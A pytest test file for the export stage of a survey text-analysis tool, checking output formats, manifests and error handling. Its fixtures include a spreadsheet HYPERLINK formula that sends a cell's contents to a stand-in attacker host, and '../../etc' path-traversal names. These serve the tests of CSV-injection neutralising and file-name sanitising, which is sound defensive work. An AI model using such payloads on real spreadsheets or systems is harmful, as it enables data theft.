"""write_run: the whole output folder, read back by the reference readers, verified, and safe to re-run.

The run is built here from a small hand-made answers table (terms already
given) passed through the real weigh and compare stages, so the test does not
depend on ingest, clean, identify or terms.
"""

from __future__ import annotations

import copy
import errno
import json
import shutil
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import scipy.io
import scipy.sparse as sp

from workbench.core import matrices as matrices_module
from workbench.core.atomic import TEMP_PREFIX
from workbench.core.compare import compare_corpus
from workbench.core.corpus import Corpus, ImportReport
from workbench.core.decisions import Decisions
from workbench.core.errors import Cancelled, OutputError
from workbench.core.export import safe_name, write_run
from workbench.core.glossary import read_glossary
from workbench.core.ledger import Ledger
from workbench.core.manifest import MANIFEST_NAME, verify_run
from workbench.core.matrices import load_matrix
from workbench.core.pipeline import RunOutputs
from workbench.core.progress import Reporter
from workbench.core.settings import study_from_dict
from workbench.core.weigh import weigh_corpus

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

# (respondent, country, language, raw text, terms)
_ROWS = [
    ("r01", "UK", "en", HYPERLINK, ["hyperlink", "click"]),
    ("r02", "UK", "en", "The price is too high", ["price", "high"]),
    ("r03", "UK", "en", "Delivery was slow, price fine", ["delivery", "slow", "price", "fine"]),
    ("r04", "../../etc", "en", "-5 stars, slow delivery", ["star", "slow", "delivery"]),
    ("r05", "DE", "de", "Der Preis ist zu hoch", ["preis", "hoch"]),
    ("r06", "DE", "de", "Lieferung langsam", ["lieferung", "langsam"]),
    ("r07", "DE", "de", "Preis und Lieferung gut", ["preis", "lieferung", "gut"]),
    ("r08", "DE", "de", "Guter Preis", ["gut", "preis"]),
    ("r09", "GR", "el", "Η τιμή είναι υψηλή", ["τιμή", "υψηλός"]),
    ("r10", "GR", "el", "Αργή παράδοση", ["αργός", "παράδοση"]),
    ("r11", "GR", "el", "Καλή τιμή", ["καλός", "τιμή"]),
    ("r12", "../../etc", "en", "no idea", []),
]

_GLOSSARY = "concept,language,term\nprice,en,price\nprice,de,preis\nprice,el,τιμή\ndelivery,en,delivery\ndelivery,de,lieferung\ndelivery,el,παράδοση\n"


def _answers() -> pd.DataFrame:
    rows = []
    for number, (rid, country, language, text, terms) in enumerate(_ROWS, start=1):
        flags = ["non_answer"] if not terms else []
        rows.append(
            {
                "answer_id": f"{rid}|q1",
                "respondent_id": rid,
                "question": "q1",
                "source": "survey.csv",
                "row": number,
                "raw_text": text,
                "clean_text": text,
                "masks": [("email", 0, 3)] if rid == "r02" else [],
                "flags": flags,
                "duplicate_of": None,
                "enters_weighting": not flags,
                "language": language,
                "confidence": 0.99,
                "language_source": "detector",
                "mixed": False,
                "second_language": None,
                "terms": terms,
                "group:country": country,
            }
        )
    return pd.DataFrame(rows)


def build_run(tmp_path: Path) -> RunOutputs:
    """A small run through the real weigh and compare stages."""
    glossary_path = tmp_path / "glossary.csv"
    glossary_path.write_text(_GLOSSARY, encoding="utf-8")
    study = study_from_dict(
        {
            "study": {"name": "Export test / wave 1"},
            "sources": [{"path": "survey.csv"}],
            "columns": {"id": "id", "text": ["q1"], "groups": ["country"]},
            "languages": {"expected": ["en", "de", "el"]},
            "weigh": {"min_df": 1},
            "compare": {"glossary": str(glossary_path), "bootstrap": 5, "min_group_size": 1, "min_freq": 1, "top_k": 5},
        },
        base_dir=tmp_path,
    )
    answers = _answers()
    ledger = Ledger()
    for row in answers.itertuples():
        ledger.row(row.respondent_id, "survey.csv", row.row, "ingest", "kept", "read", "")
        status = "flagged" if row.flags else "kept"
        ledger.answer(row.answer_id, "survey.csv", row.row, "clean", status, "non_answer" if row.flags else "ok", "")
    respondents = answers[["respondent_id", "source", "row", "group:country"]].rename(columns={"group:country": "country"})
    report = ImportReport("survey.csv", "survey.csv", "csv", encoding="utf-8", rows=len(answers), sha256="ab" * 32)
    glossary = read_glossary(glossary_path, ["en", "de", "el"])
    weighed = weigh_corpus(answers, study, Reporter(), glossary=glossary.mapping)
    compared = compare_corpus(answers, weighed, study, Reporter())
    run = RunOutputs(
        study=study,
        decisions=Decisions(),
        ledger=ledger,
        corpus=Corpus(respondents, answers, [report]),
        weighed=weighed,
        compared=compared,
        glossary=glossary,
        timings={"weigh": 0.1, "compare": 0.2},
    )
    run.snapshots["terms"] = answers
    return run


@pytest.fixture(scope="module")
def base_run(tmp_path_factory: pytest.TempPathFactory) -> RunOutputs:
    return build_run(tmp_path_factory.mktemp("run"))


@pytest.fixture
def run(base_run: RunOutputs) -> RunOutputs:
    """A private copy: tests may change its settings."""
    return copy.deepcopy(base_run)


@pytest.fixture(scope="module")
def written(base_run: RunOutputs, tmp_path_factory: pytest.TempPathFactory) -> tuple[RunOutputs, Path, list[Path]]:
    """Every format written once; tests that change files work on a copy of this folder."""
    out = tmp_path_factory.mktemp("export") / "out"
    return base_run, out, write_run(out, base_run, Reporter())


def test_folder_layout_and_manifest_lists_exactly_what_was_written(written: tuple[RunOutputs, Path, list[Path]]) -> None:
    run, out, files = written
    assert files[-1] == out / MANIFEST_NAME
    manifest = json.loads((out / MANIFEST_NAME).read_text(encoding="utf-8"))
    listed = {entry["path"] for entry in manifest["files"]}
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()} - {MANIFEST_NAME}
    assert listed == on_disk == {p.relative_to(out).as_posix() for p in files[:-1]}
    for expected in (
        "ledger.csv",
        "ledger.parquet",
        "corpus/answers.parquet",
        "corpus/answers.csv",
        "corpus/respondents.dta",
        "matrices/de.weights.mtx",
        "matrices/de.counts.npz",
        "matrices/de.terms.txt",
        "matrices/pooled.parquet",
        "keywords/keywords.xlsx",
        "compare/compare.xlsx",
        "compare/concepts_by_language.csv",
        "charts/keywords-el.png",
        "charts/concepts.svg",
    ):
        assert expected in listed, expected
    assert not any(TEMP_PREFIX in p for p in on_disk)
    assert manifest["inputs"][0]["sha256"] == "ab" * 32
    assert manifest["ledger"]["counts"] == run.ledger.counts()
    assert manifest["packages"]["scipy"] == scipy.__version__
    assert manifest["settings"]["weigh"]["min_df"] == 1
    assert "export" in manifest["timings"] and manifest["timings"]["weigh"] == 0.1
    assert manifest["spacy_lookups"]["tables"]["de"]["lemma_lookup"]["sha256"]


def test_fresh_run_verifies_and_one_changed_byte_fails(written: tuple[RunOutputs, Path, list[Path]], tmp_path: Path) -> None:
    """The issue's acceptance check: verify passes on a fresh run and fails after one byte of one file changes."""
    _run, fresh, _files = written
    assert verify_run(fresh).ok
    out = shutil.copytree(fresh, tmp_path / "copy")
    target = out / "matrices" / "en.counts.mtx"
    data = bytearray(target.read_bytes())
    data[-2] = ord("7") if data[-2] != ord("7") else ord("8")
    target.write_bytes(bytes(data))
    report = verify_run(out)
    assert not report.ok and report.changed == ["matrices/en.counts.mtx"]


def test_matrices_round_trip_through_reference_readers(written: tuple[RunOutputs, Path, list[Path]]) -> None:
    """scipy.io.mmread, scipy.sparse.load_npz and pandas.read_parquet give back the in-memory matrices (1e-12)."""
    run, out, _files = written
    sets = {**{k: (c, run.weighed.weighted[k]) for k, c in run.weighed.counts.items()}}
    sets["pooled"] = (run.weighed.pooled, run.weighed.pooled_weighted)
    for name, (counts, weighted) in sets.items():
        folder = out / "matrices"
        assert scipy.io.mminfo(str(folder / f"{name}.weights.mtx"))[3:] == ("coordinate", "real", "general")
        for back in (scipy.io.mmread(str(folder / f"{name}.weights.mtx")), sp.load_npz(folder / f"{name}.weights.npz")):
            assert abs(sp.csr_matrix(back) - weighted).max() <= 1e-12
        counts_back = sp.csr_matrix(scipy.io.mmread(str(folder / f"{name}.counts.mtx")))
        assert (counts_back != counts.matrix).nnz == 0
        matrix, terms, rows = load_matrix(out, name)
        assert abs(matrix - weighted).max() <= 1e-12
        assert terms == [str(t) for t in counts.terms] and rows == [str(r) for r in counts.row_ids]
        counts_loaded, _, _ = load_matrix(out, name, values="counts")
        assert (counts_loaded != counts.matrix).nnz == 0
        long = pd.read_parquet(folder / f"{name}.parquet")
        index = {t: j for j, t in enumerate(terms)}
        row_of = {r: i for i, r in enumerate(rows)}
        rebuilt = sp.csr_matrix(
            (long["weight"], (long["row_id"].map(row_of), long["term"].map(index))), shape=weighted.shape
        )
        assert abs(rebuilt - weighted).max() <= 1e-12
        assert int(long["count"].sum()) == int(counts.matrix.sum())
    mtx_text = (out / "matrices" / "el.weights.mtx").read_text(encoding="utf-8")
    assert mtx_text.splitlines()[0] == "%%MatrixMarket matrix coordinate real general"
    assert "el.terms.txt" in mtx_text and "tf=" in mtx_text


def test_corpus_keeps_exact_text_in_parquet_and_neutralises_csv(written: tuple[RunOutputs, Path, list[Path]]) -> None:
    """OWASP "CSV Injection": CSV cells are neutralised; Parquet keeps the exact text (pandas.read_parquet)."""
    _run, out, _files = written
    parquet = pd.read_parquet(out / "corpus" / "answers.parquet")
    assert parquet.loc[0, "raw_text"] == HYPERLINK
    assert parquet.columns[:6].tolist() == ["answer_id", "respondent_id", "question", "source", "row", "raw_text"]
    assert list(parquet.loc[1, "masks"]) == [{"type": "email", "start": 0, "end": 3}]
    assert list(parquet.loc[0, "terms"]) == ["hyperlink", "click"]
    assert parquet["in_matrix"].tolist() == [True] * 11 + [False]
    csv_frame = pd.read_csv(out / "corpus" / "answers.csv", encoding="utf-8-sig")
    assert csv_frame.loc[0, "raw_text"] == "'" + HYPERLINK
    assert csv_frame.loc[3, "raw_text"] == "'-5 stars, slow delivery"
    assert csv_frame.loc[0, "confidence"] == 0.99
    assert json.loads(csv_frame.loc[0, "terms"]) == ["hyperlink", "click"]


def test_respondents_dta_has_flags_and_concepts(written: tuple[RunOutputs, Path, list[Path]]) -> None:
    """pandas.read_stata reads the Stata file: one 0/1 variable per flag and per glossary concept."""
    _run, out, _files = written
    frame = pd.read_stata(out / "corpus" / "respondents.dta")
    assert len(frame) == 12 and frame["respondent_id"].tolist()[:2] == ["r01", "r02"]
    by_id = frame.set_index("respondent_id")
    # price: r02, r03 (en), r05, r07, r08 (de), r09, r11 (el); delivery: r03, r04, r06, r07, r10
    assert sorted(by_id.index[by_id["c_price"] == 1]) == ["r02", "r03", "r05", "r07", "r08", "r09", "r11"]
    assert sorted(by_id.index[by_id["c_delivery"] == 1]) == ["r03", "r04", "r06", "r07", "r10"]
    assert by_id.loc["r12", "flag_non_answer"] == 1 and by_id["flag_non_answer"].sum() == 1
    assert by_id.loc["r12", "n_in_matrix"] == 0 and by_id.loc["r01", "n_answers"] == 1
    assert by_id.loc["r09", "language"] == "el"
    assert all(len(c) <= 32 for c in frame.columns)


def test_spreadsheets_open_with_openpyxl(written: tuple[RunOutputs, Path, list[Path]]) -> None:
    """openpyxl reads the workbooks: a contents sheet, frozen headers, neutralised text, numeric numbers."""
    run, out, _files = written
    book = openpyxl.load_workbook(out / "keywords" / "keywords.xlsx")
    assert book.sheetnames == ["contents", *run.weighed.keywords]
    assert set(run.weighed.keywords) == {"de", "el", "en", "pooled"}
    sheet = book["en"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["ranking", "rank", "term", "mean_weight"]
    terms = [r[2] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert set(terms) >= {"price", "slow", "delivery"}
    assert all(isinstance(r[3], float) for r in sheet.iter_rows(min_row=2, values_only=True))
    compare_book = openpyxl.load_workbook(out / "compare" / "compare.xlsx", read_only=True)
    contents = list(compare_book["contents"].iter_rows(min_row=2, values_only=True))
    assert {row[1] for row in contents} == set(run.compared.tables)
    assert all(len(name) <= 31 for name in compare_book.sheetnames)


def test_charts_exist_per_language_group_and_concepts(written: tuple[RunOutputs, Path, list[Path]]) -> None:
    run, out, _files = written
    names = sorted(p.name for p in (out / "charts").iterdir())
    for language in ("de", "el", "en", "pooled"):
        assert f"keywords-{language}.png" in names and f"keywords-{language}.svg" in names
    groups = [t for n, t in run.compared.tables.items() if n.startswith("group_keywords")]
    charted = {str(g) for frame in groups for g in frame["group"].unique()}
    assert charted, "the compare stage wrote no group keyword table"
    for group in charted - {"../../etc"}:
        assert f"keywords-country-{group}.png" in names and f"keywords-country-{group}.svg" in names
    assert "concepts.png" in names
    # The group value "../../etc" becomes a plain file name inside charts/.
    assert "keywords-country-etc.png" in names
    assert all(p.parent == out / "charts" for p in (out / "charts").iterdir())
    assert not (out.parent / "etc").exists()


def test_none_stages_write_what_exists(run: RunOutputs, tmp_path: Path) -> None:
    run.weighed = None
    run.compared = None
    run.glossary = None
    out = tmp_path / "partial"
    write_run(out, run, Reporter())
    listed = {e["path"] for e in json.loads((out / MANIFEST_NAME).read_text(encoding="utf-8"))["files"]}
    assert "corpus/answers.parquet" in listed and "ledger.csv" in listed
    assert not any(p.startswith(("matrices/", "compare/", "keywords/", "charts/")) for p in listed)
    assert verify_run(out).ok


def test_formats_are_honoured_and_stale_files_removed(run: RunOutputs, tmp_path: Path) -> None:
    """Re-running into a folder replaces files and removes those the previous run listed but this one does not write;
    a file the user put there is kept and reported as extra."""
    out = tmp_path / "out"
    run.study.export.formats = ["parquet", "mtx", "json", "csv"]
    write_run(out, run, Reporter())
    assert (out / "keywords" / "en.json").exists() and (out / "ledger.csv").exists()
    (out / "my notes.txt").write_text("keep me", encoding="utf-8")
    run.study.export.formats = ["parquet", "mtx"]
    write_run(out, run, Reporter())
    manifest = json.loads((out / MANIFEST_NAME).read_text(encoding="utf-8"))
    listed = {e["path"] for e in manifest["files"]}
    assert all(p.endswith((".parquet", ".mtx", ".txt")) for p in listed)
    assert not (out / "keywords").exists() and not (out / "ledger.csv").exists()
    assert "keywords/en.json" in manifest["removed_from_previous_run"]
    assert (out / "my notes.txt").read_text(encoding="utf-8") == "keep me"
    report = verify_run(out)
    assert report.ok and report.extra == ["my notes.txt"]


def test_output_folder_that_is_a_file(run: RunOutputs, tmp_path: Path) -> None:
    target = tmp_path / "taken"
    target.write_text("x", encoding="utf-8")
    with pytest.raises(OutputError) as caught:
        write_run(target, run, Reporter())
    assert "is a file" in str(caught.value) and "\n" not in str(caught.value)


def test_folder_below_a_file(run: RunOutputs, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x", encoding="utf-8")
    with pytest.raises(OutputError, match="is a file, not a folder"):
        write_run(tmp_path / "file" / "out", run, Reporter())


def test_unwritable_folder(run: RunOutputs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """EACCES (POSIX) while probing the folder; simulated because tests may run as root."""
    real = Path.write_bytes

    def refuse(self: Path, data: bytes) -> int:
        if self.name.startswith(TEMP_PREFIX):
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", refuse)
    with pytest.raises(OutputError, match="no permission to write"):
        write_run(tmp_path / "ro", run, Reporter())


def test_disk_full_mid_export_leaves_old_files_and_no_temps(
    run: RunOutputs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """ENOSPC (POSIX errno) while writing a Parquet matrix: one-line OutputError, the earlier file intact,
    no temporary files, and no new manifest."""
    run.study.export.formats = ["parquet", "mtx"]
    out = tmp_path / "out"
    write_run(out, run, Reporter())
    before = (out / MANIFEST_NAME).read_bytes()
    old_parquet = (out / "matrices" / "de.parquet").read_bytes()

    def full_disk(table: object, where: str, **kwargs: object) -> None:
        Path(where).write_bytes(b"PAR1 half")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(matrices_module.pq, "write_table", full_disk)
    with pytest.raises(OutputError) as caught:
        write_run(out, run, Reporter())
    assert "disk is full" in str(caught.value) and "\n" not in str(caught.value)
    assert list(out.rglob(f"{TEMP_PREFIX}*")) == []
    assert (out / "matrices" / "de.parquet").read_bytes() == old_parquet
    assert (out / MANIFEST_NAME).read_bytes() == before


def test_dense_csv_too_large_fails_before_writing(run: RunOutputs, tmp_path: Path) -> None:
    run.study.export.dense_csv = True
    run.study.export.dense_limit = 4
    out = tmp_path / "dense"
    with pytest.raises(OutputError, match=r"would hold .* cells, above export.dense_limit = 4"):
        write_run(out, run, Reporter())
    assert not out.exists()


def test_dense_csv_written_when_small(run: RunOutputs, tmp_path: Path) -> None:
    run.study.export.dense_csv = True
    run.study.export.formats = ["mtx"]
    out = tmp_path / "dense"
    write_run(out, run, Reporter())
    frame = pd.read_csv(out / "matrices" / "de.dense.csv", encoding="utf-8-sig")
    weighted = run.weighed.weighted["de"]
    np.testing.assert_allclose(frame.drop(columns="row_id").to_numpy(), weighted.toarray(), atol=1e-12)


def test_cancel_stops_without_a_manifest(run: RunOutputs, tmp_path: Path) -> None:
    reporter = Reporter()
    seen: list[str] = []

    def callback(stage: str, done: int, total: int, message: str) -> None:
        seen.append(message)
        if message == "writing respondents":
            reporter.cancel.set()

    reporter.callback = callback
    out = tmp_path / "cancelled"
    with pytest.raises(Cancelled):
        write_run(out, run, reporter)
    assert seen[:3] == ["writing the ledger", "writing the corpus", "writing respondents"]
    # The step under way when the user cancelled finishes; the next one does not start.
    assert (out / "corpus" / "respondents.dta").exists() and not (out / "matrices").exists()
    assert not (out / MANIFEST_NAME).exists()
    assert list(out.rglob(f"{TEMP_PREFIX}*")) == []


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "etc-passwd"),
        ("a/b\\c", "a-b-c"),
        ("..", "x"),
        ("v1.2 final", "v1.2-final"),
        ("a..b", "a-b"),
        ("CON", "CON_"),
        ("Ελλάδα & Россия", "Ελλάδα-Россия"),
        ("tab\there\x00nul", "tab-here-nul"),
        ("keyness__country__DE__vs_rest__pooled", "keyness__country__DE__vs_rest__pooled"),
    ],
)
def test_safe_name(raw: str, expected: str) -> None:
    assert safe_name(raw) == expected


def test_safe_name_is_unique_and_short() -> None:
    used: set[str] = set()
    names = [safe_name(n, used) for n in ["DE", "de", "d/e", "d\\e", "й" * 200]]
    assert names[:4] == ["DE", "de-2", "d-e", "d-e-2"]
    assert len(names[4].encode("utf-8")) <= 100


def test_long_steps_report_progress_inside_them(run: RunOutputs, tmp_path: Path) -> None:
    """Charts, table groups and workbooks report each item, so a front end never sits without news;
    cancelling between two charts stops before the next one (and writes no manifest)."""
    reporter = Reporter()
    seen: list[tuple[int, int, str]] = []

    def callback(stage: str, done: int, total: int, message: str) -> None:
        seen.append((done, total, message))
        if message.startswith("charts: 2 of"):
            reporter.cancel.set()

    reporter.callback = callback
    out = tmp_path / "progress"
    with pytest.raises(Cancelled):
        write_run(out, run, reporter)
    messages = [m for _d, _t, m in seen]
    assert any(m.startswith("compare tables: 1 of") for m in messages)
    assert any(m.startswith("compare.xlsx: sheet 1 of") for m in messages)
    assert messages[-1].startswith("charts: 2 of")
    # The chart under way when the user cancelled is finished (PNG and SVG); the third is not started.
    charts = sorted(p.name for p in (out / "charts").iterdir())
    assert len(charts) == 4 and not (out / MANIFEST_NAME).exists()
    # Progress inside a step keeps that step's position on the bar.
    steps = {d for d, _t, m in seen if m.startswith("charts")}
    assert len(steps) == 1 and all(t == seen[0][1] for _d, t, _m in seen)


def _keyness(rows: int, significant: int) -> pd.DataFrame:
    g2 = np.linspace(500.0, 0.1, rows)
    return pd.DataFrame({"term": [f"t{i:05d}" for i in range(rows)], "g2": g2, "significant": np.arange(rows) < significant})


def test_workbook_sheets_of_long_term_tables_hold_their_top_rows(run: RunOutputs, tmp_path: Path) -> None:
    """Term-by-term tables (keyness, vocabulary) keep their first XLSX_TERM_ROWS rows in the workbook,
    or every significant keyness row when there are more; the CSV holds every row, the contents sheet
    says where; other tables are never cut."""
    from types import SimpleNamespace

    from workbench.core.export import XLSX_TERM_ROWS

    tables = {
        "keyness__country__DE__vs_rest__de": _keyness(XLSX_TERM_ROWS + 500, 40),
        "keyness__country__FR__vs_rest__de": _keyness(XLSX_TERM_ROWS + 500, XLSX_TERM_ROWS + 200),
        "group_keywords__country__de": _keyness(XLSX_TERM_ROWS + 300, 0),
    }
    run.compared = SimpleNamespace(tables=tables, table_notes={}, findings=[], notes=[], warnings=[])
    run.study.export.formats = ["csv", "xlsx"]
    out = tmp_path / "cut"
    write_run(out, run, Reporter())
    book = openpyxl.load_workbook(out / "compare" / "compare.xlsx", read_only=True)
    sizes = {sheet.title: sheet.max_row - 1 for sheet in book.worksheets}
    contents = {row[1]: row for row in book["contents"].iter_rows(min_row=2, values_only=True)}
    first, _second, other = (tables[name] for name in tables)
    assert sizes[_sheet_of(contents, "keyness__country__DE__vs_rest__de")] == XLSX_TERM_ROWS
    assert sizes[_sheet_of(contents, "keyness__country__FR__vs_rest__de")] == XLSX_TERM_ROWS + 200
    assert sizes[_sheet_of(contents, "group_keywords__country__de")] == len(other)
    described = contents["keyness__country__DE__vs_rest__de"][3]
    assert f"first {XLSX_TERM_ROWS:,} of {len(first):,} rows" in described and "compare/keyness__country__DE__vs_rest__de.csv" in described
    assert len(pd.read_csv(out / "compare" / "keyness__country__DE__vs_rest__de.csv", encoding="utf-8-sig")) == len(first)


def _sheet_of(contents: dict, table: str) -> str:
    return contents[table][0]
